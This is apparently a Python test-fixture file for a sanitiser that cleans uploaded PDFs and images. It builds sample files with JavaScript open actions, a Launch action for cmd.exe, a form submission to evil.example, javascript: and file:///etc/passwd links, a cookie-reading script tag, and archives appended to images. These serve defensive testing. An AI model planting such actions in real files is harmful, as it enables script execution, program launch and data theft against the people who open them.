"""Files that could do harm as they come, and are made harmless before they are kept."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.files import jpeg, pdf, photo, png, zipped

HTML = b"<script>alert(document.cookie)</script>"
ARCHIVE = zipped([("evil.class", "evil")])


def opened_by(action):
    def change(made):
        made.Root.OpenAction = Dictionary(action)

    return pdf(change=change)


def linked(action):
    """A PDF with a link that does this."""

    def change(made):
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
        link.A = Dictionary(action)
        made.pages[0].Annots = Array([made.make_indirect(link)])

    return pdf(change=change)


def attached():
    def change(made):
        made.attachments["evil.exe"] = b"MZ evil program"

    return pdf(change=change)


def form():
    def change(made):
        made.Root.AcroForm = Dictionary(Fields=[], XFA=String("<xdp>evil</xdp>"))

    return pdf(change=change)


def described():
    def change(made):
        made.docinfo["/Author"] = "A. Resident"
        with made.open_metadata() as about:
            about["dc:creator"] = ["A. Resident"]

    return pdf(change=change)


def with_an_earlier_version():
    """A PDF that was changed by adding to its end: what was removed is still in its middle."""
    first = pdf(
        change=lambda made: setattr(
            made.pages[0], "Contents", made.make_stream(b"BT (Name of a resident) Tj ET")
        ),
        compress_streams=False,
    )
    made = pikepdf.open(io.BytesIO(first))
    made.pages[0].Contents = made.make_stream(b"BT ET")
    out = io.BytesIO()
    made.save(out, compress_streams=False)
    return first[: first.rindex(b"%%EOF")] + b"%%EOF\n" + out.getvalue()


SCRIPT = {"/S": Name.JavaScript, "/JS": String("app.alert(1)")}
PROGRAM = {"/S": Name.Launch, "/F": String("cmd.exe")}
SENDING = {"/S": Name.SubmitForm, "/F": String("https://evil.example")}
RUNNING = {"/S": Name.URI, "/URI": String("javascript:alert(1)")}
LOCAL = {"/S": Name.URI, "/URI": String("file:///etc/passwd")}

# What it is → its name, its content, and bytes that must not be in what is kept and served.
HARMLESS = {
    "a pdf with a script": ("plan.pdf", opened_by(SCRIPT), b"app.alert"),
    "a pdf with a script in a link": ("plan.pdf", linked(SCRIPT), b"app.alert"),
    "a pdf that starts a program": ("plan.pdf", linked(PROGRAM), b"/Launch"),
    "a pdf that sends": ("plan.pdf", linked(SENDING), b"/SubmitForm"),
    "a pdf with a running link": ("plan.pdf", linked(RUNNING), b"javascript:"),
    "a pdf with a local link": ("plan.pdf", linked(LOCAL), b"/etc/passwd"),
    "a pdf with a program in it": ("plan.pdf", attached(), b"evil"),
    "a pdf with a form of pages": ("plan.pdf", form(), b"xdp"),
    "a pdf that names its author": ("plan.pdf", described(), b"A. Resident"),
    "a pdf then an archive": ("plan.pdf", pdf() + ARCHIVE, b"evil.class"),
    "a pdf then a page": ("plan.pdf", pdf() + HTML, b"<script"),
    "a photo with its place": ("photo.jpg", photo(), b"Maker of phones"),
    "a photo with a remark": ("photo.jpg", jpeg(comment=HTML), b"<script"),
    "a photo then a page": ("photo.jpg", jpeg() + HTML, b"<script"),
    "a photo then an archive": ("photo.jpg", jpeg() + ARCHIVE, b"evil.class"),
    "a png then an archive": ("photo.png", png() + ARCHIVE, b"evil.class"),
    "a png as jpeg": ("photo.jpg", png() + HTML, b"<script"),
    "an ordinary table": ("list.csv", b"name,tel\nA,+44 1632 960112\nB,-5", b"=="),
    "text in windows’ letters": ("notes.txt", "Café – £5".encode("cp1252"), b"\x96"),
}
